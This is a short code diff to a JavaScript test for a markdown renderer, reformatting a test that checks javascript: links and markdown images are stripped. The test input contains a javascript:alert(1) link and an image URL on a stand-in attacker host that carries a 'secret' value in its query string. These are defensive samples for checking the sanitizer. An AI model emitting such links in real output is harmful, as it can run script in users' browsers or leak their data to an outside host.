@@ -34,7 +34,8 @@ describe('renderMarkdown', () => {
 
   it('drops javascript: links and markdown images', () => {
     const host = render('[click](javascript:alert(1)) and ![pixel](http://evil.example/p.png?d=secret)');
-    for (const a of host.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/javascript/i);
+    for (const a of host.querySelectorAll('a'))
+      expect(a.getAttribute('href') ?? '').not.toMatch(/javascript/i);
     expect(host.querySelector('img')).toBeNull();
   });
 });
